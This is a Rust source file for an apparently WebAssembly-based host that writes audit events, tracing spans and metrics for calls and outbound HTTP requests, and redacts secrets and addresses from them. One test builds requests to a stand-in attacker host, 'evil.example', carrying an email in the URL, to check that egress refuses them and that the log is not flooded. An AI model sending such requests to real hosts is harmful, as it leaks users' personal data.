//! What is told of calls and requests: to the audit log, in spans, and in metrics.
//!
//! All three are told the same at the same moments. A call ends for them when its future does, also when that is dropped.

use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::task::{Context, Poll, ready};
use std::time::{Duration, Instant, SystemTime};

use bytes::Bytes;
use http::{Method, Request, Response, Uri};
use hyper::body::{Body, Frame, SizeHint};
use memberspot_core::{function, scopes::Scopes, wit::types::Scope};
use tracing::field::Empty;
use tracing::level_filters::LevelFilter;
use tracing::{Instrument as _, Span};
use wasmtime_wasi_http::{Error, WasiBody};

use crate::audit::{
    AuditError, AuditSink, Ended, Event, Outcome, PATIENCE, Path, Personal, Receipt, RequestEnded, Required, What,
};
use crate::egress::Traffic;
use crate::metrics::Metrics;
use crate::{Function, HostError, Origin, Tenant};

/// How many requests of a call that were refused are recorded one by one. To be refused costs a component nothing, so that it
/// could fill the log.
const MOST_REFUSED: u64 = 16;
/// Longer than the codes, and the names of functions and servers, of anybody who means well.
const LONGEST_NAME: usize = 128;

/// Tells of the calls of a host.
pub(crate) struct Observer {
    sink: Option<Arc<dyn AuditSink>>,
    required: Required,
    metrics: Option<Metrics>,
    /// What the ids of calls begin with: random, so that those of different processes differ.
    run: String,
    calls: AtomicU64,
}

impl Observer {
    pub(crate) fn new(sink: Option<Arc<dyn AuditSink>>, required: Required, metrics: Option<Metrics>) -> Self {
        let mut run = [0; 8];
        // Without randomness, the time tells runs apart.
        if getrandom::fill(&mut run).is_err() {
            let now =
                SystemTime::UNIX_EPOCH.elapsed().map_or(0, |elapsed| u64::try_from(elapsed.as_micros()).unwrap_or_default());
            run = now.to_be_bytes();
        }
        let run = format!("{:016x}", u64::from_be_bytes(run));
        Self { sink, required, metrics, run, calls: AtomicU64::new(0) }
    }

    /// Whether there is nobody who could be told anything.
    fn is_alone(&self) -> bool {
        self.sink.is_none() && self.metrics.is_none() && LevelFilter::current() < LevelFilter::INFO
    }

    /// A call begins. Where it has to be recorded and cannot be, it does not. `function` is `None` where it is not known.
    pub(crate) async fn begin(self: &Arc<Self>, tenant: &Tenant, function: Option<&Function>) -> Result<Ongoing, HostError> {
        if self.is_alone() {
            return Ok(Ongoing { traffic: None, call: None, ended: true });
        }
        let name = function.map(|function| match function.short_interface() {
            "" => short(function.name()).into(),
            interface => format!("{}.{}", short(interface), short(function.name())).into(),
        });
        let id: Arc<str> = format!("{}-{}", self.run, self.calls.fetch_add(1, Ordering::Relaxed) + 1).into();
        let required = match self.required {
            Required::All => true,
            Required::Writes => !function.is_some_and(only_reads),
            Required::Nothing => false,
        };
        let call = Arc::new(Call {
            observer: self.clone(),
            tenant: tenant.clone(),
            span: call_span(tenant, name.as_deref(), &id),
            function: name,
            id,
            required,
            start: Instant::now(),
            computing: AtomicU64::new(0),
            runs: AtomicBool::new(false),
            requests: AtomicU64::new(0),
            left: AtomicU64::new(0),
            refused: AtomicU64::new(0),
        });
        if let Some(metrics) = &self.metrics {
            metrics.call_waits();
        }
        let ongoing = Ongoing { traffic: None, call: Some(call.clone()), ended: false };
        let kept = call.record(What::CallBegins { function: call.function.clone() });
        match call.recorded(kept, required).await {
            Ok(()) => Ok(ongoing),
            Err(error) => {
                let error = HostError::Unrecorded(error);
                ongoing.end(Told::of_error(&error));
                Err(error)
            }
        }
    }
}

/// Whether a function is one that only reads. Another component may have one of the same name that does more; its requests
/// are looked at as well.
fn only_reads(wanted: &Function) -> bool {
    let fits = |known: &&function::Function| known.interface == wanted.short_interface() && known.name == wanted.name();
    function::ALL.iter().find(fits).is_some_and(|known| known.scopes == Scopes::none().with(Scope::Read))
}

fn short(text: &str) -> &str {
    &text[..text.floor_char_boundary(LONGEST_NAME)]
}

/// A call, for what tells of its requests.
pub(crate) struct Call {
    observer: Arc<Observer>,
    tenant: Tenant,
    id: Arc<str>,
    function: Option<Arc<str>>,
    required: bool,
    span: Span,
    start: Instant,
    /// In nanoseconds.
    computing: AtomicU64,
    /// Whether it has its place.
    runs: AtomicBool,
    /// Requests, those that were refused included.
    requests: AtomicU64,
    left: AtomicU64,
    refused: AtomicU64,
}

impl std::fmt::Debug for Call {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Call").field("id", &self.id).finish_non_exhaustive()
    }
}

impl Call {
    /// Hands an event to the sink. `None` where there is none.
    fn record(&self, what: What) -> Option<Receipt> {
        let sink = self.observer.sink.as_ref()?;
        let event = Event {
            time: SystemTime::now(),
            tenant: Personal::new(self.tenant.id()),
            actor: self.tenant.actor().map(Personal::new),
            call: self.id.clone(),
            what,
        };
        Some(sink.record(event))
    }

    /// Waits for a receipt where it matters.
    async fn recorded(&self, kept: Option<Receipt>, required: bool) -> Result<(), AuditError> {
        let Some(kept) = kept.filter(|_| required) else { return Ok(()) };
        let recorded = tokio::time::timeout(PATIENCE, kept).await.unwrap_or(Err(AuditError::Slow));
        recorded.inspect_err(|_| {
            if let Some(metrics) = &self.observer.metrics {
                metrics.unrecorded();
            }
        })
    }

    /// The call has its place.
    pub(crate) fn runs(&self) {
        if !self.runs.swap(true, Ordering::Relaxed)
            && let Some(metrics) = &self.observer.metrics
        {
            metrics.call_runs();
        }
    }

    /// The component wants to make a request.
    pub(crate) fn request<B>(self: &Arc<Self>, request: &Request<B>) -> Exchanging {
        let method = method(request.method());
        let server = Origin::of(request.uri());
        let path = Path::of(request.method(), request.uri().path());
        Exchanging(Arc::new(Exchange {
            span: request_span(&self.span, method, request.uri(), &path),
            call: self.clone(),
            number: self.requests.fetch_add(1, Ordering::Relaxed) + 1,
            changes: !matches!(method, "GET" | "HEAD"),
            method,
            server: server.map(|server| short(&server.to_string()).to_owned()),
            path,
            start: Instant::now(),
            state: std::sync::Mutex::default(),
            sent: Arc::default(),
            received: Arc::default(),
        }))
    }
}

/// A call whose future lives. When it is dropped before the call has ended, that is how it ends.
pub(crate) struct Ongoing {
    /// `None` where nobody is told.
    call: Option<Arc<Call>>,
    traffic: Option<Arc<Traffic>>,
    ended: bool,
}

impl Ongoing {
    /// For what tells of its requests.
    pub(crate) fn call(&self) -> Option<Arc<Call>> {
        self.call.clone()
    }

    /// Runs the call, and tells what became of it.
    pub(crate) async fn observe<T>(
        mut self,
        traffic: &Arc<Traffic>,
        work: impl Future<Output = Result<T, HostError>>,
        told: impl FnOnce(&T) -> Told,
    ) -> Result<T, HostError> {
        let Some(call) = &self.call else { return work.await };
        self.traffic = Some(traffic.clone());
        let span = call.span.clone();
        let result = Timed { work: Box::pin(work), call: call.clone() }.instrument(span).await;
        self.end(match &result {
            Ok(answer) => told(answer),
            Err(error) => Told::of_error(error),
        });
        result
    }

    fn end(mut self, told: Told) {
        self.ended = true;
        self.tell(told);
    }

    fn tell(&self, told: Told) {
        let Some(call) = &self.call else { return };
        let [_, bytes_out, bytes_in] = self.traffic.as_ref().map_or([0; 3], |traffic| traffic.totals());
        let refused = call.refused.load(Ordering::Relaxed);
        if let Some(code) = &told.code {
            call.span.record("error.type", code);
        } else if told.outcome == Outcome::Cancelled {
            call.span.record("error.type", "cancelled");
        }
        let ended = Ended {
            function: call.function.clone(),
            outcome: told.outcome,
            case: told.case,
            code: told.code,
            status: told.status,
            attempts: told.attempts,
            outcome_unknown: told.outcome_unknown,
            requests: call.left.load(Ordering::Relaxed),
            refused,
            bytes_out,
            bytes_in,
            duration: call.start.elapsed(),
            computing: Duration::from_nanos(call.computing.load(Ordering::Relaxed)),
        };
        if let Some(metrics) = &call.observer.metrics {
            metrics.call_ended(call.tenant.id(), &ended, call.runs.load(Ordering::Relaxed));
        }
        // Whether it is kept changes nothing any more.
        drop(call.record(What::CallEnds(ended)));
    }
}

impl Drop for Ongoing {
    fn drop(&mut self) {
        if !self.ended {
            self.tell(Told::new(Outcome::Cancelled));
        }
    }
}

/// What is told of an answer.
pub(crate) struct Told {
    outcome: Outcome,
    case: Option<String>,
    code: Option<String>,
    status: Option<u64>,
    attempts: Option<u64>,
    outcome_unknown: Option<bool>,
}

impl Told {
    fn new(outcome: Outcome) -> Self {
        Self { outcome, case: None, code: None, status: None, attempts: None, outcome_unknown: None }
    }

    /// Of a call by name.
    pub(crate) fn of_answer(answer: &crate::Outcome) -> Self {
        let crate::Outcome::Failure(error) = answer else { return Self::new(Outcome::Success) };
        let error = error.to_json();
        let failure = &error["val"];
        let code = |code: &serde_json::Value| {
            let is_code =
                |code: &&str| code.len() <= 40 && code.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-');
            // A component that is not ours may answer with anything, such as its secrets.
            code.as_str().map(|code| Some(code).filter(is_code).unwrap_or("other").to_owned())
        };
        Self {
            case: code(&error["tag"]),
            code: code(&failure["code"]),
            status: failure["status"].as_u64(),
            attempts: failure["attempts"].as_u64(),
            outcome_unknown: failure["outcomeUnknown"].as_bool(),
            ..Self::new(Outcome::Failure)
        }
    }

    /// Of typed calls.
    pub(crate) fn of_work<T>(_: &T) -> Self {
        Self::new(Outcome::Completed)
    }

    fn of_error(error: &HostError) -> Self {
        Self { code: Some(error.code().to_owned()), ..Self::new(Outcome::Error) }
    }
}

/// Adds up how long a call computes.
struct Timed<F> {
    work: Pin<Box<F>>,
    call: Arc<Call>,
}

impl<F: Future> Future for Timed<F> {
    type Output = F::Output;

    fn poll(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<F::Output> {
        let start = Instant::now();
        let result = self.work.as_mut().poll(cx);
        let elapsed = u64::try_from(start.elapsed().as_nanos()).unwrap_or(u64::MAX);
        self.call.computing.fetch_add(elapsed, Ordering::Relaxed);
        result
    }
}

/// A request, from the component's wish to the end of the answer. It is over when the last clone is dropped.
#[derive(Clone)]
pub(crate) struct Exchanging(Arc<Exchange>);

struct Exchange {
    call: Arc<Call>,
    number: u64,
    method: &'static str,
    changes: bool,
    server: Option<String>,
    path: Path,
    span: Span,
    start: Instant,
    state: std::sync::Mutex<State>,
    sent: Arc<AtomicU64>,
    received: Arc<AtomicU64>,
}

#[derive(Default)]
struct State {
    refused: Option<&'static str>,
    announced: bool,
    status: Option<u16>,
    fault: Option<String>,
}

impl Exchanging {
    fn state(&self) -> std::sync::MutexGuard<'_, State> {
        self.0.state.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    /// The span of the request.
    pub(crate) fn span(&self) -> Span {
        self.0.span.clone()
    }

    /// It is not let through, and never was on its way.
    pub(crate) fn refused(&self, by: &'static str) {
        self.state().refused = Some(by);
    }

    /// It is about to leave. One that may change something does not leave where it has to be recorded and cannot be.
    pub(crate) async fn leaves(&self) -> Result<(), AuditError> {
        let Exchange { call, changes, .. } = &*self.0;
        call.left.fetch_add(1, Ordering::Relaxed);
        if !changes {
            return Ok(());
        }
        self.state().announced = true;
        let kept = call.record(What::RequestBegins {
            request: self.0.number,
            method: self.0.method,
            server: self.0.server.clone(),
            path: self.0.path.clone(),
        });
        call.recorded(kept, call.required || call.observer.required == Required::Writes).await
    }

    /// It did not leave after all: its beginning could not be recorded.
    pub(crate) fn unrecorded(&self) {
        self.0.call.left.fetch_sub(1, Ordering::Relaxed);
        self.state().fault = Some("unrecorded".into());
    }

    /// Counts what is sent. The body may live longer than the request.
    pub(crate) fn outgoing(&self, body: WasiBody) -> WasiBody {
        WasiBody::new(Counted { body, count: self.0.sent.clone(), exchange: None })
    }

    /// There is an answer, or none.
    pub(crate) fn answered<T>(&self, answer: Result<(Response<WasiBody>, T), Error>) -> Result<(Response<WasiBody>, T), Error> {
        match answer {
            Ok((response, driver)) => {
                self.state().status = Some(response.status().as_u16());
                let counted =
                    |body| WasiBody::new(Counted { body, count: self.0.received.clone(), exchange: Some(self.clone()) });
                Ok((response.map(counted), driver))
            }
            Err(error) => {
                self.state().fault = Some(fault(&error));
                Err(error)
            }
        }
    }
}

impl Drop for Exchange {
    fn drop(&mut self) {
        let State { refused, announced, status, fault } =
            std::mem::take(self.state.get_mut().unwrap_or_else(std::sync::PoisonError::into_inner));
        let path = self.path.clone();
        let (request, method, server) = (self.number, self.method, self.server.take());
        let metrics = self.call.observer.metrics.as_ref();
        if let Some(by) = refused {
            self.span.record("error.type", by);
            if let Some(metrics) = metrics {
                metrics.request_refused(by);
            }
            if self.call.refused.fetch_add(1, Ordering::Relaxed) < MOST_REFUSED {
                drop(self.call.record(What::RequestRefused { request, method, server, path, by }));
            }
            return;
        }
        let fault = if status.is_none() { fault.or_else(|| Some("cancelled".into())) } else { fault };
        let (bytes_out, bytes_in) = (self.sent.load(Ordering::Relaxed), self.received.load(Ordering::Relaxed));
        self.told(status, fault.as_deref(), bytes_out, bytes_in);
        let duration = self.start.elapsed();
        let ended = RequestEnded { request, announced, method, server, path, status, fault, bytes_out, bytes_in, duration };
        if let Some(metrics) = metrics {
            metrics.request_ended(&ended);
        }
        drop(self.call.record(What::RequestEnds(ended)));
    }
}

impl Exchange {
    /// Completes the span.
    fn told(&self, status: Option<u16>, fault: Option<&str>, sent: u64, received: u64) {
        if let Some(status) = status {
            self.span.record("http.response.status_code", status);
        }
        match (fault, status) {
            (Some(fault), _) => drop(self.span.record("error.type", fault)),
            (None, Some(status)) if status >= 400 => drop(self.span.record("error.type", status.to_string())),
            _ => {}
        }
        self.span.record("http.request.body.size", sent);
        self.span.record("http.response.body.size", received);
    }
}

/// The name of an error, without what it holds: that may be anything.
fn fault(error: &Error) -> String {
    let text = format!("{error:?}");
    text.chars().take_while(char::is_ascii_alphanumeric).take(40).collect()
}

/// As OpenTelemetry has it: what HTTP does not define is one and the same.
fn method(method: &Method) -> &'static str {
    match *method {
        Method::GET => "GET",
        Method::HEAD => "HEAD",
        Method::POST => "POST",
        Method::PUT => "PUT",
        Method::PATCH => "PATCH",
        Method::DELETE => "DELETE",
        Method::OPTIONS => "OPTIONS",
        Method::TRACE => "TRACE",
        Method::CONNECT => "CONNECT",
        _ => "_OTHER",
    }
}

/// A body whose bytes are counted, and which is a part of its request as long as it lasts.
struct Counted {
    body: WasiBody,
    count: Arc<AtomicU64>,
    exchange: Option<Exchanging>,
}

impl Body for Counted {
    type Data = Bytes;
    type Error = Error;

    fn poll_frame(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<Option<Result<Frame<Bytes>, Error>>> {
        let this = self.get_mut();
        let frame = ready!(Pin::new(&mut this.body).poll_frame(cx));
        match &frame {
            Some(Ok(frame)) => {
                let bytes = frame.data_ref().map_or(0, |data| data.len() as u64);
                this.count.fetch_add(bytes, Ordering::Relaxed);
            }
            Some(Err(error)) => {
                if let Some(exchange) = this.exchange.take() {
                    exchange.state().fault = Some(fault(error));
                }
            }
            None => this.exchange = None,
        }
        Poll::Ready(frame)
    }

    fn is_end_stream(&self) -> bool {
        self.body.is_end_stream()
    }

    fn size_hint(&self) -> SizeHint {
        self.body.size_hint()
    }
}

fn call_span(tenant: &Tenant, function: Option<&str>, id: &str) -> Span {
    // An address is nobody's business who collects spans.
    let tenant = Some(tenant.id()).filter(|id| !id.contains('@'));
    tracing::info_span!(
        "memberspot call",
        otel.name = function.unwrap_or("memberspot call"),
        otel.kind = "internal",
        memberspot.function = function,
        memberspot.tenant = tenant,
        memberspot.call = id,
        error.type = Empty,
    )
}

fn request_span(parent: &Span, method: &'static str, uri: &Uri, path: &Path) -> Span {
    tracing::info_span!(
        parent: parent,
        "HTTP request",
        otel.name = %format_args!("{method} {}", path.template()),
        otel.kind = "client",
        http.request.method = method,
        url.template = path.template(),
        url.scheme = uri.scheme_str(),
        server.address = uri.host().map(short),
        server.port = uri.port_u16(),
        http.request.body.size = Empty,
        http.response.status_code = Empty,
        http.response.body.size = Empty,
        error.type = Empty,
    )
}

#[cfg(test)]
mod tests {
    use std::sync::Mutex;

    use wasmtime_wasi_http::WasiHttpHooks as _;

    use super::*;
    use crate::egress::Egress;
    use crate::sender::UnpooledSender;
    use crate::{Connection, Limits};

    #[derive(Clone, Default)]
    struct Memory(Arc<Mutex<Vec<What>>>);

    impl AuditSink for Memory {
        fn record(&self, event: Event) -> Receipt {
            self.0.lock().unwrap().push(event.what);
            Box::pin(async { Ok(()) })
        }
    }

    #[tokio::test]
    async fn requests_that_are_refused_do_not_fill_the_log() {
        let memory = Memory::default();
        let observer = Arc::new(Observer::new(Some(Arc::new(memory.clone())), Required::All, None));
        let tenant = Tenant::new("t".into(), Connection::new("key"), Limits::default(), Arc::new(UnpooledSender));
        let ongoing = observer.begin(&tenant, None).await.unwrap();
        let traffic = Arc::new(Traffic::of(ongoing.call(), tenant.limits()));
        let mut egress = Egress {
            allowed: tenant.origin().cloned(),
            vault: None,
            traffic: traffic.clone(),
            sender: tenant.sender(),
            rate: None,
        };
        let work = async {
            for _ in 0..100 {
                let request = Request::get("https://evil.example/?email=a@b.de").body(WasiBody::default()).unwrap();
                let refused = Pin::from(egress.send_request(request, None, Box::new(async { Ok(()) }))).await;
                assert!(matches!(refused, Err(Error::HttpRequestDenied)));
            }
            Ok(())
        };
        ongoing.observe(&traffic, work, Told::of_work).await.unwrap();
        let events = memory.0.lock().unwrap();
        let by_origin = |what: &What| matches!(what, What::RequestRefused { by: "origin", server: Some(server), .. } if server == "https://evil.example");
        assert_eq!(events.iter().filter(|what| by_origin(what)).count() as u64, MOST_REFUSED);
        assert!(matches!(events.last(), Some(What::CallEnds(Ended { requests: 0, refused: 100, .. }))));
        assert_eq!(events.len() as u64, MOST_REFUSED + 2);
    }

    #[test]
    fn a_fault_is_a_name() {
        assert_eq!(fault(&Error::ConnectionRefused), "ConnectionRefused");
        let secret = Error::DnsError { rcode: Some("secret".into()), info_code: None };
        assert_eq!(fault(&secret), "DnsError");
    }
}
